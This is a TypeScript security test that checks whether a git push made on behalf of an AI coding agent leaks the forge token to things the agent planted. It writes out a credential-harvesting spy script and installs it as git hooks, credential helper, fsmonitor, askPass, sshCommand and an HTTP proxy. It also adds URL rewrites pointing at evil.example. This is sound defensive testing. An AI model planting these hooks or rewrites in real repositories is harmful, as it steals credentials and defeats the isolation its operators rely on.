// The factory's git operations on a worktree the agent touched. The agent can write anything in
// its worktree and in the repository it shares (hooks, config, .gitattributes); the factory's
// push carries the forge credential. Guards the peers' report of "tokens readable by the agent":
// a hook, a command or a proxy planted by the agent must receive nothing.
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Forge } from '../../src/integrations/forge.js';
import { createGitWorkspaces } from '../../src/integrations/git-workspaces.js';
import { createGitHubForge } from '../../src/integrations/github-forge.js';
import { startGitHubEmulator, type GitHubEmulator } from '../../src/sandbox/github/index.js';

const TOKEN = 'ghs_isolationTokenValue0123456789abcdef';
const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
const OWNER = 'acme';

let tmp: string;
let emulator: GitHubEmulator;
let forge: Forge;
let proxy: Server;
let proxied: string[];
let counter = 0;

beforeAll(async () => {
  tmp = realpathSync(mkdtempSync(join(tmpdir(), 'conveyor-isolation-')));
  emulator = await startGitHubEmulator({ dataDir: join(tmp, 'data'), tokens: [TOKEN], ciDelayMs: 5 });
  forge = createGitHubForge({ token: TOKEN, baseUrl: emulator.url, gitBaseUrl: emulator.webUrl, retry: { unitMs: 10, spaceWrites: false } });
  // A "proxy" the agent points git at: it records whatever reaches it and refuses to forward.
  proxied = [];
  proxy = createServer((req, res) => {
    proxied.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
    res.writeHead(502).end();
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
});

afterAll(async () => {
  await emulator?.close();
  await new Promise<void>((resolve) => proxy.close(() => resolve()));
  rmSync(tmp, { recursive: true, force: true });
});

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'core.hooksPath=/dev/null', ...args], { cwd, encoding: 'utf8', env: { PATH: process.env.PATH ?? '', HOME: tmp, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' } }).trim();
}

/** A prepared worktree of a fresh emulator repo with one agent commit, and a folder for what planted programs write. */
async function agentWorktree(): Promise<{ repo: string; branch: string; path: string; sha: string; loot: string; spy: string }> {
  counter += 1;
  const repo = `${OWNER}/isolated-${counter}`;
  await emulator.createRepo({ owner: OWNER, name: `isolated-${counter}`, defaultBranch: 'main', files: { 'README.md': '# widgets\n' } });
  const branch = `conveyor/eng-${counter}-iso`;
  const workspaces = createGitWorkspaces({ root: join(tmp, `ws-${counter}`) });
  const worktree = await workspaces.prepare({ repo, cloneUrl: forge.cloneUrl(repo), authEnv: await forge.gitAuthEnv(), branch, baseBranch: 'main', key: `ENG-${counter}` });
  writeFileSync(join(worktree.path, 'feature.txt'), 'feature\n');
  git(worktree.path, 'add', 'feature.txt');
  git(worktree.path, '-c', 'user.name=Agent', '-c', 'user.email=agent@example.test', 'commit', '--quiet', '-m', 'Add feature');
  const loot = join(tmp, `loot-${counter}`);
  mkdirSync(loot, { recursive: true });
  // One program that records its arguments, environment and input wherever it is planted.
  const spy = join(tmp, `spy-${counter}.sh`);
  writeFileSync(spy, `#!/bin/sh\nf="${loot}/$(basename "$0")-$$"\n{ echo "args: $*"; env; } > "$f"\ntimeout 2 cat >> "$f" 2>/dev/null\nexit 0\n`);
  chmodSync(spy, 0o755);
  return { repo, branch, path: worktree.path, sha: git(worktree.path, 'rev-parse', 'HEAD'), loot, spy };
}

/** Everything the planted programs wrote, as one text. */
function looted(loot: string): string {
  return readdirSync(loot)
    .map((name) => readFileSync(join(loot, name), 'utf8'))
    .join('\n');
}

function plantHook(worktree: string, name: string, spy: string): void {
  const hooks = join(git(worktree, 'rev-parse', '--path-format=absolute', '--git-common-dir'), 'hooks');
  mkdirSync(hooks, { recursive: true });
  writeFileSync(join(hooks, name), `#!/bin/sh\nexec ${spy} "$@"\n`);
  chmodSync(join(hooks, name), 0o755);
}

describe('the factory push from an agent-touched worktree', () => {
  it('gives a planted pre-push hook, credential helper, fsmonitor and proxy nothing, and pushes the agent HEAD', async () => {
    const { repo, branch, path, sha, loot, spy } = await agentWorktree();
    plantHook(path, 'pre-push', spy);
    plantHook(path, 'reference-transaction', spy);
    // A hooks folder of its own, in the config the worktree shares with the mirror.
    const ownHooks = join(tmp, `own-hooks-${counter}`);
    mkdirSync(ownHooks);
    writeFileSync(join(ownHooks, 'pre-push'), `#!/bin/sh\nexec ${spy} "$@"\n`);
    chmodSync(join(ownHooks, 'pre-push'), 0o755);
    git(path, 'config', 'core.hooksPath', ownHooks);
    git(path, 'config', 'credential.helper', `!${spy}`);
    git(path, 'config', 'core.fsmonitor', spy);
    git(path, 'config', 'core.askPass', spy);
    git(path, 'config', 'http.proxy', `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`);
    proxied.length = 0;

    const pushed = await forge.pushBranch({ repo, worktree: path, branch });

    expect(pushed.headSha).toBe(sha);
    expect(await emulatorHead(repo, branch)).toBe(sha);
    const stolen = looted(loot);
    expect(stolen).not.toContain(TOKEN);
    expect(stolen).not.toContain(BASIC);
    expect(readdirSync(loot)).toEqual([]);
    expect(proxied).toEqual([]);
  });

  it('ignores a planted url rewrite to ssh with a planted ssh command, and pushes to the forge', async () => {
    const { repo, branch, path, sha, loot, spy } = await agentWorktree();
    git(path, 'config', 'core.sshCommand', spy);
    git(path, 'config', `url.ssh://git@evil.example/.insteadOf`, `${emulator.webUrl}/`);
    git(path, 'config', `url.ssh://git@evil.example/.pushInsteadOf`, `${emulator.webUrl}/`);

    const pushed = await forge.pushBranch({ repo, worktree: path, branch });

    expect(pushed.headSha).toBe(sha);
    expect(await emulatorHead(repo, branch)).toBe(sha);
    const stolen = looted(loot);
    expect(stolen).not.toContain(TOKEN);
    expect(stolen).not.toContain(BASIC);
    expect(readdirSync(loot)).toEqual([]);
  });
});

async function emulatorHead(repo: string, branch: string): Promise<string> {
  const [owner, name] = repo.split('/');
  return git(tmp, '--git-dir', join(tmp, 'data', 'repos', owner ?? '', `${name ?? ''}.git`), 'rev-parse', `refs/heads/${branch}`);
}
